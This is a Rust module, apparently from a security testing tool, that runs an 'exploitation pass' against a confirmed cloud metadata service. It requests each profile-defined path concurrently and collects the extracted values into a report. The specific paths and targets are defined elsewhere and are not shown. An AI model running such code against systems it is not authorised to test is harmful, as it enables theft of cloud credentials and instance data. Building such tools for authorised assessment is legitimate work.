//! Exploitation pass over a confirmed metadata service

use crate::cloud::error::CheckError;
use crate::cloud::provider::{ConfirmedEndpoint, ProviderProfile};
use crate::http::client::HttpClient;
use crate::http::request::HttpRequest;
use crate::reporting::model::ResultSet;
use futures::future::join_all;
use std::collections::BTreeMap;

/// Result of a single named check
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CheckOutcome {
    Extracted(String),
    Skipped(CheckError),
}

/// Every check attempted against one provider, keyed by check name
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitReport {
    pub provider: String,
    pub outcomes: BTreeMap<String, CheckOutcome>,
}

impl ExploitReport {
    /// Values of the checks that succeeded
    pub fn results(&self) -> ResultSet {
        self.outcomes
            .iter()
            .filter_map(|(name, outcome)| match outcome {
                CheckOutcome::Extracted(value) => Some((name.clone(), value.clone())),
                CheckOutcome::Skipped(_) => None,
            })
            .collect()
    }

    pub fn skipped(&self) -> impl Iterator<Item = (&str, &CheckError)> {
        self.outcomes.iter().filter_map(|(name, outcome)| match outcome {
            CheckOutcome::Skipped(reason) => Some((name.as_str(), reason)),
            CheckOutcome::Extracted(_) => None,
        })
    }
}

pub struct ExploitRunner<'a> {
    client: &'a HttpClient,
}

impl<'a> ExploitRunner<'a> {
    pub fn new(client: &'a HttpClient) -> Self {
        Self { client }
    }

    /// Request every target path of `profile` against the confirmed endpoint.
    /// A failing check never aborts its siblings.
    pub async fn run(
        &self,
        profile: &ProviderProfile,
        endpoint: &ConfirmedEndpoint,
    ) -> ExploitReport {
        tracing::info!(
            "Exploiting {} metadata at {} ({} checks)",
            profile.id,
            endpoint.base_url,
            profile.target_paths.len()
        );

        let checks = profile.target_paths.iter().map(|(name, suffix)| async move {
            let outcome = self.run_check(profile, endpoint, name, suffix).await;
            (name.clone(), outcome)
        });

        let outcomes: BTreeMap<String, CheckOutcome> = join_all(checks).await.into_iter().collect();

        let report = ExploitReport {
            provider: profile.id.clone(),
            outcomes,
        };

        for (name, reason) in report.skipped() {
            tracing::debug!("Check '{}' skipped: {}", name, reason);
        }
        tracing::info!(
            "Recovered {}/{} checks from {}",
            report.results().len(),
            report.outcomes.len(),
            report.provider
        );

        report
    }

    async fn run_check(
        &self,
        profile: &ProviderProfile,
        endpoint: &ConfirmedEndpoint,
        name: &str,
        suffix: &str,
    ) -> CheckOutcome {
        let url = match ProviderProfile::join(&endpoint.base_url, suffix) {
            Ok(u) => u,
            Err(e) => return CheckOutcome::Skipped(e),
        };

        let req = HttpRequest::get(url.clone()).with_headers(&profile.required_headers);

        let resp = match self.client.execute(req).await {
            Ok(resp) => resp,
            Err(e) => return CheckOutcome::Skipped(CheckError::request(url.as_str(), e)),
        };

        if !resp.is_ok() {
            return CheckOutcome::Skipped(CheckError::Status {
                url: url.to_string(),
                status: resp.status,
            });
        }

        match profile
            .post_processor
            .apply(self.client, name, &url, &resp)
            .await
        {
            Ok(value) => {
                tracing::debug!("Check '{}' recovered {} bytes", name, value.len());
                CheckOutcome::Extracted(value)
            }
            Err(e) => CheckOutcome::Skipped(e),
        }
    }
}
